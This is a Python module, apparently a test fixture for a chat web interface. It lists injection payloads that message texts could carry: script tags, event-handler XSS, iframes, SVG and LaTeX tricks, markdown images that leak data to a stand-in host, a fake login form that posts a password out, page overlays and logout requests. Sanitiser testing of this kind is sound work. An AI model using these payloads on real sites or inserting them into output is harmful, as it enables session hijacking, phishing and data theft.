"""Injection payloads: message texts that attack the page, the visitor or another host.

A payload that is executed calls `pwned`. One that sends a request asks evil.test, which does not exist, or asks this
server for an image.
"""

FOREIGN = "evil.test"
EVIL = "https://" + FOREIGN

CODE = (
    "pwned()",
    "top.pwned()",
    "setTimeout('pwned()')",
    "(0,eval)('pwned()')",
    "import('data:text/javascript,pwned()')",
)

SCRIPTS = [
    *(f"<script>{code}</script>" for code in CODE),
    f'<script src="{EVIL}/x.js"></script>',
    '<script src="data:text/javascript,pwned()"></script>',
    f'<script type="module" src="{EVIL}/x.mjs"></script>',
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<SCRIPT\n>pwned()</SCRIPT\t>",
    "<script/x>pwned()</script>",
    "<svg><script>pwned()</script></svg>",
    f'<svg><script href="{EVIL}/x.js"/></svg>',
    "<math><script>pwned()</script></math>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
    "<textarea><script>pwned()</script>",
    "<title><img src=x onerror=pwned()></title>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    '<?xml-stylesheet href="javascript:pwned()"?>',
]

TAGS = {
    "img src=x": ("onerror", "onload"),
    "img src=data:, ": ("onerror",),
    "body": ("onload", "onpageshow", "onfocus", "onhashchange", "onresize"),
    "svg": ("onload", "onclick"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "input autofocus": ("onfocus",),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "button autofocus": ("onfocus",),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish"),
    "div style=animation:breathe_1s": ("onanimationstart", "onanimationend"),
    "div contenteditable autofocus": ("onfocus", "oninput"),
    "a href=# autofocus tabindex=1": ("onfocus", "onmouseover"),
    "iframe src=about:blank": ("onload",),
    "object data=x": ("onerror", "onload"),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload",),
    "meter": ("onmouseover",),
    "dialog open": ("onfocusin",),
}
HANDLERS = [f"<{tag} {event}=pwned()>" for tag, events in TAGS.items() for event in events]

FRAMES = [
    '<iframe srcdoc="<script>top.pwned()</script>"></iframe>',
    '<iframe src="javascript:top.pwned()"></iframe>',
    '<iframe src="data:text/html,<script>top.pwned()</script>"></iframe>',
    f'<iframe src="{EVIL}/"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    '<object data="data:text/html,<script>top.pwned()</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    '<embed src="javascript:pwned()">',
    f'<frameset><frame src="{EVIL}/"></frameset>',
    f'<portal src="{EVIL}/"></portal>',
    f'<applet code="{EVIL}/x"></applet>',
    f'<fencedframe src="{EVIL}/"></fencedframe>',
]

SVG = [
    f'<svg><image href="{EVIL}/x.png" /></svg>',
    f'<svg><use href="{EVIL}/x.svg#a" /></svg>',
    f'<svg><feImage href="{EVIL}/x.png" /></svg>',
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    '<svg><a><animate attributeName=href values="javascript:pwned()" /><text y=20>click</text></a></svg>',
    "<svg><set attributeName=onmouseover to=pwned() /></svg>",
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    '<svg><style>@import "' + EVIL + '/x.css";</style></svg>',
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/x.png'/></svg>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    '<math href="javascript:pwned()">click</math>',
    '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
]

IMAGES = [
    f"![x]({EVIL}/x.png?said=secret)",
    f"![x](//{FOREIGN}/x.png)",
    f"![x]({EVIL}/x.png =10x10)",
    f"![x][ref]\n\n[ref]: {EVIL}/x.png",
    "![x](javascript:pwned())",
    "![x](data:text/html,<script>pwned()</script>)",
    '![x](x" onerror="pwned())',
    f"[![x]({EVIL}/x.png)]({EVIL}/)",
    f'<img src="{EVIL}/x.png">',
    f'<img srcset="{EVIL}/x.png 1x">',
    f'<picture><source srcset="{EVIL}/x.png"><img></picture>',
    f'<video src="{EVIL}/x.mp4" poster="{EVIL}/x.png" autoplay></video>',
    f'<audio src="{EVIL}/x.mp3" autoplay></audio>',
    f'<video><track src="{EVIL}/x.vtt" default></video>',
    f'<input type=image src="{EVIL}/x.png">',
    f'<table background="{EVIL}/x.png"><td background="{EVIL}/y.png">x</td></table>',
    f'<body background="{EVIL}/x.png">',
    f"![x](/gradio_api/file={EVIL}/x.png?said=secret)",
    f'<img src="gradio_api/file={EVIL}/x.png">',
    f"![x](/gradio_api/proxy={EVIL}/x.png)",
    "![x](/logout)",
    '<img src="/logout?all_session=true">',
    "![x](/conversations)",
]

LINKS = [
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned())",
    "[x](blob:pwned)",
    "<javascript:pwned()>",
    '[x](https://x "a\\" onmouseover=\\"pwned()")',
    '<a href="javascript:pwned()">x</a>',
    '<a href="\x01javascript:pwned()">x</a>',
    '<a href="javascript&NewLine;:pwned()">x</a>',
    f'<a href="{EVIL}/" ping="{EVIL}/ping">x</a>',
    '<a href="x" target="_top" onclick="pwned()">x</a>',
    '<area href="javascript:pwned()">',
    "[x]: javascript:pwned()\n\n[x]",
    f'<link rel="prefetch" href="{EVIL}/x"><link rel="dns-prefetch" href="{EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<link rel="preload" as="image" href="{EVIL}/x.png"><link rel="manifest" href="{EVIL}/m.json">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    f'<base href="{EVIL}/">',
]

OVERLAYS = [
    *(f'<div style="position:{how};inset:0;z-index:99999;background:red">over</div>' for how in ("fixed", "absolute")),
    '<div style="position:sticky;top:0;height:100vh;background:red">over</div>',
    '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">over</p>',
    '<div style="margin:-5000px;padding:5000px;background:red">over</div>',
    '<div style="transform:scale(99);background:red">over</div>',
    '<div style="translate:0 -500px;width:2000px;height:2000px;background:red">over</div>',
    '<div style="box-shadow:0 0 0 9999px red">over</div>',
    '<div style="outline:9999px solid red">over</div>',
    '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">over</dialog>',
    '<div popover=manual id=pop style="position:fixed;inset:0">over</div>',
    "<style>#message,#sidebar{display:none!important} body{background:red}</style>",
    f'<style>@import url("{EVIL}/x.css"); * {{ background: url("{EVIL}/x.png") }}</style>',
    f'<div style="background:url({EVIL}/x.png)">x</div>',
    f'<div style="list-style-image:url({EVIL}/x.png);content:url({EVIL}/y.png);cursor:url({EVIL}/z.png),auto">x</div>',
    f'<p style="behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml)">x</p>',
    '<p style="width:expression(pwned())">x</p>',
    '<div id="message"><textarea>not yours</textarea><button class="stop-button">Stop</button></div>',
    '<div class="message-row user-row"><div class="flex-wrap">not a row</div></div>',
    '<div id="chatbot" name="chatbot"></div><form id="chatbot"><input name="open"></form>',
    '<div class="fixed inset-0 absolute z-50 w-full h-full">over</div>',
    '<div class="sidebar open" style="all:initial">x</div>',
]

FORMS = [
    f'<form action="{EVIL}/"><input name="password" type="password"><button>Log in again</button></form>',
    f'<form action="{EVIL}/" method="post"><input type="submit"></form>',
    '<form action="javascript:pwned()"><button>x</button></form>',
    f'<form><button formaction="{EVIL}/">x</button></form>',
    '<form action="/session" method="post"><button>x</button></form>',
    f'<form id=f></form><button form=f formaction="{EVIL}/">x</button>',
    f'<isindex action="{EVIL}/"><keygen autofocus>',
]

FORMULAS = [
    "$$\\href{javascript:pwned()}{x}$$",
    "$$\\url{javascript:pwned()}$$",
    f"$$\\includegraphics{{{EVIL}/x.png}}$$",
    "$$\\htmlData{onclick=pwned()}{x}$$",
    "$$\\htmlStyle{position:fixed;inset:0}{x}$$",
    '$$\\htmlClass{x" onclick="pwned()}{x}$$',
    "$$\\rule{9999em}{9999em}$$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "\\(<img src=x onerror=pwned()>\\)",
    "$$\\text{<script>pwned()</script>}$$",
    "$$\\unicode{<img src=x onerror=pwned()>}$$",
    "$$\\class{<img src=x onerror=pwned()>}{x}$$",
]

CODES = [
    "```<img src=x onerror=pwned()>\nx\n```",
    "```html\n<script>pwned()</script>\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"] --> B\nclick A "javascript:pwned()"\n```',
    '```"><img src=x onerror=pwned()>\nx\n```',
    "`<img src=x onerror=pwned()>`",
    '<pre><code class="language-x"><img src=x onerror=pwned()></code></pre>',
    "| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |",
    "# <img src=x onerror=pwned()>",
    "- [ ] <img src=x onerror=pwned()>",
    "x[^1]\n\n[^1]: <img src=x onerror=pwned()>",
    "&lt;img src=x onerror=pwned()&gt;",
    "\u202e<img src=x onerror=pwned()>\u2066",
    "{{constructor.constructor('pwned()')()}} ${pwned()} #{pwned()} <%= pwned() %>",
    "<think><img src=x onerror=pwned()></think>and so",
]

PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *FRAMES,
    *SVG,
    *IMAGES,
    *LINKS,
    *OVERLAYS,
    *FORMS,
    *FORMULAS,
    *CODES,
]
